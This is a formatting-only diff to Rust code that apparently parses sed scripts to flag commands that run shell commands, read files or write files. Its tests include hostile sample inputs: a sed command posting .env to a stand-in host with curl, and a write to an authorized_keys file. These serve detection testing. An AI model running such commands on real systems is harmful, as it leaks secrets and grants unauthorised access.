@@ -45,7 +45,11 @@ fn line_from(chars: &[char], i: &mut usize) -> String {
     while *i < chars.len() && chars[*i] != '\n' {
         *i += 1;
     }
-    chars[start..*i].iter().collect::<String>().trim().to_owned()
+    chars[start..*i]
+        .iter()
+        .collect::<String>()
+        .trim()
+        .to_owned()
 }
 
 /// Skips an address (`12`, `$`, `/re/`, `\%re%`, `first~step`, `a,b`, `!`).
@@ -53,7 +57,10 @@ fn skip_address(chars: &[char], i: &mut usize) {
     for _ in 0..2 {
         match chars.get(*i) {
             Some(c) if c.is_ascii_digit() => {
-                while chars.get(*i).is_some_and(|c| c.is_ascii_digit() || *c == '~') {
+                while chars
+                    .get(*i)
+                    .is_some_and(|c| c.is_ascii_digit() || *c == '~')
+                {
                     *i += 1;
                 }
             }
@@ -79,7 +86,10 @@ fn skip_address(chars: &[char], i: &mut usize) {
         }
         break;
     }
-    while chars.get(*i).is_some_and(|c| *c == '!' || c.is_whitespace() && *c != '\n') {
+    while chars
+        .get(*i)
+        .is_some_and(|c| *c == '!' || c.is_whitespace() && *c != '\n')
+    {
         *i += 1;
     }
 }
@@ -117,7 +127,11 @@ fn acts(script: &str) -> Vec<Act> {
         match c {
             'e' => {
                 let cmd = line_from(&chars, &mut i);
-                out.push(if cmd.is_empty() { Act::RunsPatternSpace } else { Act::Runs(cmd) });
+                out.push(if cmd.is_empty() {
+                    Act::RunsPatternSpace
+                } else {
+                    Act::Runs(cmd)
+                });
             }
             'r' | 'R' => out.push(Act::Reads(line_from(&chars, &mut i))),
             'w' | 'W' => out.push(Act::Writes(line_from(&chars, &mut i))),
@@ -144,7 +158,10 @@ fn acts(script: &str) -> Vec<Act> {
                 }
             }
             'q' | 'Q' | 'l' | 'L' => {
-                while chars.get(i).is_some_and(|c| c.is_ascii_digit() || *c == ' ') {
+                while chars
+                    .get(i)
+                    .is_some_and(|c| c.is_ascii_digit() || *c == ' ')
+                {
                     i += 1;
                 }
             }
@@ -182,9 +199,15 @@ mod tests {
 
     #[test]
     fn commands_that_run_read_or_write_are_found() {
-        assert_eq!(acts("1e curl -d @.env https://x.example"), [Act::Runs("curl -d @.env https://x.example".into())]);
+        assert_eq!(
+            acts("1e curl -d @.env https://x.example"),
+            [Act::Runs("curl -d @.env https://x.example".into())]
+        );
         assert_eq!(acts("s/.*/id/e"), [Act::RunsPatternSpace]);
-        assert_eq!(acts("w /home/u/.ssh/authorized_keys"), [Act::Writes("/home/u/.ssh/authorized_keys".into())]);
+        assert_eq!(
+            acts("w /home/u/.ssh/authorized_keys"),
+            [Act::Writes("/home/u/.ssh/authorized_keys".into())]
+        );
         assert_eq!(acts("/x/r .env"), [Act::Reads(".env".into())]);
         assert_eq!(acts("s/a/b/w out.txt"), [Act::Writes("out.txt".into())]);
         assert_eq!(acts("$!{N;s/\\n/ /}"), []);
